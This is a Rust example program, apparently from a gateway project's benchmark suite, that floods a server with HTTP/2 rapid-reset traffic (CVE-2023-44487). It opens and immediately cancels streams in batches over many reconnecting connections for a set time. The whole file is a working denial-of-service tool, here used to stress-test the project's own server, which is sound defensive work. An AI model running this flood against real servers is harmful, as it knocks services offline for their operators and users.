//! An HTTP/2 rapid-reset flooder (CVE-2023-44487) for `scripts/bench.sh rapid-reset`: on
//! `CONNS` cleartext (h2c prior knowledge) connections to `ADDR`, opens streams and resets
//! them at once (HEADERS then RST_STREAM, in batches, never reading), reconnecting whenever
//! the server closes a connection, for `SECS` seconds. Prints what it sent.
//!
//!     cargo run --release -p sluice --example h2_flood -- 127.0.0.1:18180 10 4
//!
//! Raw frames on purpose: the `h2` crate paces a client by the server's stream limit and
//! would not flood as an attacker does.

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::AsyncWriteExt;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// HPACK: `:method GET`, `:scheme http`, `:path /` (static table), `:authority h`.
const GET_ROOT: &[u8] = &[0x82, 0x86, 0x84, 0x01, 0x01, b'h'];
/// Stream pairs per write.
const BATCH: u32 = 50;

fn frame(out: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
    out.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
    out.extend_from_slice(&[kind, flags]);
    out.extend_from_slice(&stream.to_be_bytes());
    out.extend_from_slice(payload);
}

#[derive(Default)]
struct Counts {
    connections: AtomicU64,
    streams: AtomicU64,
}

/// Floods one connection after another until the task is dropped.
async fn flood(addr: String, counts: Arc<Counts>) {
    loop {
        let Ok(mut tcp) = tokio::net::TcpStream::connect(&addr).await else {
            tokio::time::sleep(Duration::from_millis(10)).await;
            continue;
        };
        counts.connections.fetch_add(1, Ordering::Relaxed);
        let mut open = PREFACE.to_vec();
        frame(&mut open, 0x4, 0, 0, &[]); // SETTINGS
        if tcp.write_all(&open).await.is_err() {
            continue;
        }
        let mut id = 1u32;
        // Up to the last client stream id; a server that never closes gets a new connection.
        while id < (1 << 31) - 2 * BATCH {
            let mut frames = Vec::with_capacity(BATCH as usize * 28);
            for _ in 0..BATCH {
                frame(&mut frames, 0x1, 0x5, id, GET_ROOT); // HEADERS, END_STREAM|END_HEADERS
                frame(&mut frames, 0x3, 0, id, &8u32.to_be_bytes()); // RST_STREAM CANCEL
                id += 2;
            }
            if tcp.write_all(&frames).await.is_err() {
                break;
            }
            counts
                .streams
                .fetch_add(u64::from(BATCH), Ordering::Relaxed);
        }
    }
}

#[tokio::main(flavor = "current_thread")]
async fn main() -> Result<(), String> {
    let mut args = std::env::args().skip(1);
    let usage = "usage: h2_flood ADDR SECS CONNS";
    let addr = args.next().ok_or(usage)?;
    let secs: u64 = args
        .next()
        .ok_or(usage)?
        .parse()
        .map_err(|e| format!("SECS: {e}"))?;
    let conns: usize = args
        .next()
        .unwrap_or_else(|| "4".into())
        .parse()
        .map_err(|e| format!("CONNS: {e}"))?;
    let counts = Arc::new(Counts::default());
    let tasks: Vec<_> = (0..conns.max(1))
        .map(|_| tokio::spawn(flood(addr.clone(), counts.clone())))
        .collect();
    tokio::time::sleep(Duration::from_secs(secs)).await;
    for task in &tasks {
        task.abort();
    }
    println!(
        "h2_flood: {} connections, {} streams opened and reset in {secs} s (as written to the socket: what a connection had buffered when the gateway closed it was never read)",
        counts.connections.load(Ordering::Relaxed),
        counts.streams.load(Ordering::Relaxed)
    );
    Ok(())
}
